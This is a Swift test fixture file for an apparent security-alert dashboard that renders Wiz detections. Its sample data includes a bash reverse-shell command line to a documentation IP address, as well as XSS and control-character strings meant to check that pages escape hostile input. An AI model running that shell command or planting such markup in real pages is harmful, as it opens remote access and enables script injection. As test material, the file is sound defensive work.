import Detection
import Pipeline
import Workbench

@testable import Server

/// Records as pages get them: ordinary ones, and ones as bad as a vendor may send.
enum PageFixtures {
    static let now = Timestamp(milliseconds: 1_767_348_000_000)
    static let organization = Organization(
        id: ID("org-1"), name: "Harbour Foods", shortName: "harbour", createdAt: now, updatedAt: now)
    static let otherOrganization = Organization(
        id: ID("org-2"), name: "Northwind Rail", shortName: "northwind", createdAt: now, updatedAt: now)

    static let analyst = Principal(
        actorID: ID("actor-ana"), organizationID: ID("org-1"), displayName: "Ana Lyst", role: .organizationAnalyst)
    static let administrator = Principal(
        actorID: ID("actor-adm"), organizationID: ID("org-1"), displayName: "Ada Min", role: .organizationAdministrator)
    static let provider = Principal(
        actorID: ID("actor-pro"), organizationID: ID("org-0"), displayName: "Pro Vider", role: .providerAnalyst)
    static let reader = Principal(
        actorID: ID("actor-rea"), organizationID: ID("org-1"), displayName: "Rea Der", role: .organizationAnalyst,
        isReadOnly: true)

    static let people: [ID<Actor>: Actor] = Dictionary(
        [analyst, administrator, provider].map { person in
            (
                person.actorID,
                Actor(
                    id: person.actorID, kind: .user, displayName: person.displayName,
                    organizationID: person.organizationID, createdAt: now, updatedAt: now)
            )
        }, uniquingKeysWith: { first, _ in first })

    static let assignable = [analyst, administrator].map { person in
        UserAccount(
            id: person.actorID, organizationID: person.organizationID, email: "\(person.actorID)@example.com",
            displayName: person.displayName, role: person.role, passwordHash: "", sealedOTPSecret: nil, createdAt: now,
            updatedAt: now)
    }

    static let vendor = VendorDescriptor(
        slug: "wiz", name: "Wiz", issueProduct: "Wiz Cloud", detectionProduct: "Wiz Defend",
        fields: [
            .init(key: "api_url", label: "API endpoint", help: "From the tenant's profile page."),
            .init(key: "client_id", label: "Client id", help: "Of the service account."),
            .init(key: "client_secret", label: "Client secret", help: "Of the service account.", isSecret: true),
        ], streams: PollStream.allCases)

    static func shell(_ viewer: Principal = analyst, organizations: Bool = false, notice: Notice? = nil) -> Shell {
        Shell(
            title: "Test", section: .alerts, csrf: "token-for-forms", here: "/alerts", person: Shell.Person(viewer),
            organizations: organizations
                ? Shell.OrganizationSwitch(
                    current: "All organizations",
                    choices: [Choice("", "All organizations", isChosen: true), Choice("org-1", "Harbour Foods")]) : nil,
            search: "", notice: notice)
    }
}

extension PageFixtures {
    static func match(_ text: (String) -> String = { $0 }) -> DetectionMatch {
        DetectionMatch(
            ruleID: "6f2b5a3e-0000-4000-8000-1f2e3d4c5b6a", ruleTitle: text("Reverse shell from a container"),
            ruleVersion: "2026-01-02",
            fields: [
                .init(path: "process.command_line", value: text("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")),
                .init(path: "rule.name", value: text("Reverse shell")),
            ],
            alsoMatched: [text("Suspicious command")],
            triage: [text("Look at the process tree."), text("Ask whether a penetration test is under way.")],
            tactics: ["TA0002"], techniques: ["T1059.004"],
            severityReasons: [text("the rule's level is high")])
    }

    static func alert(
        _ number: Int = 1, status: Alert.Status = .open, severity: Severity = .high, name: String? = nil,
        isIssueBacked: Bool = true, match: DetectionMatch? = nil
    ) -> Alert {
        Alert(
            id: ID("0198f000-0000-7000-8000-00000000000\(number)"), organizationID: organization.id,
            deviceID: ID("device-1"), name: name ?? "Wiz Cloud: Reverse shell on payments-api \(number)",
            severity: severity, status: status, isIssueBacked: isIssueBacked,
            kind: isIssueBacked ? .threat : .detection,
            match: match ?? PageFixtures.match(), closeReason: status == .closed ? .benign : nil,
            closeComment: status == .closed ? "A planned exercise." : nil,
            assignedTo: status == .open ? nil : analyst.actorID, source: .webhook,
            vendorCreatedAt: now.adding(seconds: -121), version: 7, createdAt: now.adding(seconds: -120),
            updatedAt: now.adding(seconds: -60))
    }

    static let liveState = IssueState(status: .open, vendorStatus: "OPEN", changedAt: now.adding(seconds: -100))
    static let theirState = IssueState(
        status: .resolved, vendorStatus: "RESOLVED", reason: "MALICIOUS_THREAT", changedAt: now.adding(seconds: -50),
        changedBy: "dana@customer.example")

    static func content(_ text: (String) -> String = { $0 }, url: String = "https://app.vendor.example/issues/1")
        -> VendorAlertContent
    {
        let process = VendorAlertContent.Process(
            commandLine: text("bash -i"), path: "/bin/bash", hash: "9f86d081884c7d659a2feaa0c55ad015", user: "www-data",
            container: "payments-api-7d9", image: "registry.example/payments:1.4")
        let parent = VendorAlertContent.Process(path: "/usr/sbin/nginx")
        let event = VendorAlertContent.TriggeringEvent(
            id: "event-1", name: text("Process started"), description: text("A shell was started by a web server."),
            origin: "Sensor", source: "runtime", category: "Execution", status: "SUCCESS",
            time: now.adding(seconds: -130), actorName: text("www-data"), ip: "203.0.113.9", ipCountry: "NL",
            ipReputation: "MALICIOUS", url: url, processes: [process, parent])
        return VendorAlertContent(
            name: text("Reverse shell"), description: text("A process connected its shell to a remote host."),
            severity: .critical, type: "THREAT_DETECTION",
            rule: .init(id: "rule-1", name: text("Reverse shell"), recommendation: text("Isolate the workload.")),
            origins: ["SENSOR"],
            resource: .init(
                id: "res-1", providerID: "arn:aws:ecs:eu-west-1:111122223333:task/payments/0a1b2c3d4e5f",
                name: text("payments-api"),
                type: "CONTAINER", nativeType: "ecs#task", region: "eu-west-1", cloud: "AWS", accountID: "111122223333",
                accountName: text("payments-production"), status: "Active", tags: ["team": text("payments")],
                cluster: "prod", namespace: "payments", consoleURL: url),
            actors: [
                .init(id: "actor-1", externalID: "AIDAEXAMPLE", name: text("deploy-bot"), type: "SERVICE_ACCOUNT")
            ],
            projects: [.init(name: text("Payments"))], environments: ["PRODUCTION"], risks: ["EXTERNAL_EXPOSURE"],
            tactics: ["TA0002"], techniques: ["T1059.004"], events: [event], eventsTotal: 12,
            notes: [
                .init(
                    text: text("We look at it."), author: "dana@customer.example", createdAt: now.adding(seconds: -40))
            ],
            url: url)
    }

    static func vendorAlert(_ content: VendorAlertContent = content(), kind: VendorAlert.Kind = .threat) -> VendorAlert
    {
        VendorAlert(
            id: ID("vendor-alert-1"), organizationID: organization.id, deviceID: ID("device-1"), kind: kind,
            vendorID: "5b1f6a0e-1111-4222-8333-444455556666", issueID: nil, content: content,
            state: kind.isIssue ? theirState : nil, vendorUpdatedAt: now, vendorCreatedAt: now.adding(seconds: -121),
            raw: ["id": "5b1f6a0e", "name": .string(content.name)], firstSource: .webhook, createdAt: now,
            updatedAt: now)
    }

    static func delivery(_ state: Delivery.State, _ move: SyncIntent.Move = .dismiss(.benign), answer: String? = nil)
        -> Delivery
    {
        Delivery(
            id: ID("delivery-\(state.rawValue)"), organizationID: organization.id, deviceID: ID("device-1"),
            alertID: alert().id, vendorAlertID: ID("vendor-alert-1"), issueID: "5b1f6a0e-1111-4222-8333-444455556666",
            kind: .threat, eventID: ID("event-1"), actorID: analyst.actorID,
            intent: SyncIntent(rule: .alertClosed, move: move, note: SyncNote(headline: "Closed in Watchfloor.")),
            policyVersion: 1, knownState: liveState, state: state, attempts: 3, notBefore: now.adding(seconds: 30),
            answer: answer, conflictingState: state == .conflict ? theirState : nil,
            createdAt: now.adding(seconds: -20), finishedAt: state.isFinished ? now.adding(seconds: -18.8) : nil,
            updatedAt: now)
    }

    static func device(_ status: DeviceHealth.Status? = .unhealthy, name: String = "Harbour production")
        -> SecurityDevice
    {
        SecurityDevice(
            id: ID("device-1"), organizationID: organization.id, vendor: "wiz", name: name, location: "Rotterdam",
            connection: DeviceConnection(
                settings: ["api_url": "https://api.eu1.vendor.example/graphql", "client_id": "client-1"],
                sealedSecret: Array("never-shown".utf8)),
            webhook: WebhookCredentials(key: "webhook-key", username: "watchfloor-abc", sealedPassword: []),
            consoleAccess: .active,
            health: DeviceHealth(
                status: status,
                problems: status == .unhealthy
                    ? [
                        HealthProblem(
                            kind: .scopeMissing,
                            words: "The scope write:issue_ignore is missing. Add it to the service account.")
                    ]
                    : [],
                checkedAt: now.adding(seconds: -30), statusUpdatedAt: now.adding(seconds: -3000),
                lastSuccessAt: now.adding(seconds: -40), lastError: status == .unhealthy ? "403 missing scope" : nil,
                lastErrorAt: status == .unhealthy ? now.adding(seconds: -35) : nil,
                lastWebhookAt: now.adding(seconds: -90), lastWebhookTestAt: now.adding(seconds: -9000)),
            createdAt: now, updatedAt: now)
    }
}

extension PageFixtures {
    static func listModel(
        _ alerts: [Alert], filter: AlertListFilter = AlertListFilter(), viewer: Principal = analyst,
        organizations: [Organization] = [], devices: [SecurityDevice] = [device()], next: String? = nil,
        standings: [ID<Alert>: AlertStanding]? = nil
    ) -> AlertListModel {
        var numbers: [AlertCounts.Key: Int] = [:]
        for alert in alerts { numbers[.init(status: alert.status, severity: alert.severity), default: 0] += 1 }
        let standing = AlertStanding(
            resourceName: "payments-api", resourceType: "ecs#task", account: "payments-production",
            issueState: theirState, deliveryState: .done, deliverySeconds: 1.2)
        return AlertListModel(
            filter: filter, alerts: alerts, next: next, total: next == nil ? alerts.count : 1312,
            counts: AlertCounts(numbers: numbers),
            standings: standings
                ?? Dictionary(alerts.map { ($0.id, standing) }, uniquingKeysWith: { first, _ in first }),
            people: people, assignable: assignable, organizations: organizations, devices: devices,
            vendors: ["wiz": "Wiz"], viewer: viewer, now: now)
    }

    static func alertModel(
        _ alert: Alert = alert(), vendorAlerts: [VendorAlert] = [vendorAlert()], deliveries: [Delivery] = [],
        viewer: Principal = analyst
    ) -> AlertModel {
        let histories = [
            alert.history(.created, by: Actor.system, at: now.adding(seconds: -120)),
            alert.history(.viewed, by: analyst.actorID, at: now.adding(seconds: -110)),
            alert.history(
                .assigned, by: administrator.actorID, at: now.adding(seconds: -100), assignedTo: analyst.actorID),
            alert.history(
                .statusChanged, by: analyst.actorID, at: now.adding(seconds: -60),
                value: [
                    "from": "IN_PROGRESS", "to": "CLOSED", "close_reason": "BENIGN",
                    "close_comment": "A planned exercise.",
                ]),
        ]
        let comment = Comment(
            id: ID("comment-1"), organizationID: organization.id, alertID: alert.id, text: "Asked the team.",
            createdAt: now.adding(seconds: -90), createdBy: administrator.actorID, updatedAt: now)
        let plan = PlannedWrite(status: "Resolved · not malicious threat", note: "Closed in Watchfloor.")
        return AlertModel(
            alert: alert, vendorAlerts: vendorAlerts, history: histories, comments: [comment], deliveries: deliveries,
            plans: Dictionary(deliveries.map { ($0.id, plan) }, uniquingKeysWith: { first, _ in first }),
            device: device(), organization: organization, people: people, assignable: assignable, vendor: vendor,
            viewer: viewer, now: now)
    }

    static func deviceModel(_ device: SecurityDevice = device(), viewer: Principal = administrator) -> DeviceModel {
        let running = PollRun(
            id: ID("run-1"), deviceID: device.id, stream: .created, after: now.adding(seconds: -604_800), before: now,
            isBackfill: true, items: 120, pages: 3, total: 312, startedAt: now.adding(seconds: -12), updatedAt: now)
        let failed = PollRun(
            id: ID("run-0"), deviceID: device.id, stream: .detections, state: .failed, after: now, before: now,
            isBackfill: false, error: "The tenant answered 503.", startedAt: now.adding(seconds: -900),
            updatedAt: now.adding(seconds: -890))
        let signal = Signal(
            id: ID("signal-1"), deviceID: device.id, source: .webhook, state: .quarantined,
            body: Array("{\"broken\": <script>alert(1)</script>".utf8), reason: "This is not JSON.",
            receivedAt: now.adding(seconds: -300))
        return DeviceModel(
            device: device, organization: organization, vendor: vendor, runs: [running, failed],
            delays: [.webhook: Array(repeating: 0.4, count: 19) + [9], .poll: [400]], delayGoal: 300,
            quarantined: [signal], quarantinedCount: 1,
            stuck: [delivery(.conflict), delivery(.refused, answer: "changing to resolved status is not allowed")],
            stuckCount: 2, waitingCount: 3, publicURL: "https://watchfloor.example", webhookPassword: nil, problem: nil,
            viewer: viewer, now: now)
    }

    /// A test in which something of every kind was met.
    static var connectionReport: ConnectionReport {
        var report = ConnectionReport()
        (report.environment, report.region) = ("Commercial", "eu1")
        report.problems = [HealthProblem(kind: .unreachable, words: "The tenant answered 503.")]
        report.warnings = ["This tenant is already connected as the device \"First\"."]
        report.permissions = ConnectionReport.Permission.Verdict.allCases.map {
            .init(name: "read:issues", purpose: "Polling.", isRequired: true, verdict: $0, words: "Add it.")
        }
        return report
    }

    /// 10 KB names, markup with and without combining marks, right-to-left overrides, control characters.
    static func horrible(_ text: String) -> String {
        let markup = "<script>alert(1)</script>\"\u{301} onmouseover=\u{27}alert(2)\u{27} <\u{301}img src=x>"
        return markup + "\u{202E}\u{05D0}\u{05D1}\u{0}\u{8}" + String(repeating: "Very long ", count: 1000) + text
    }
}
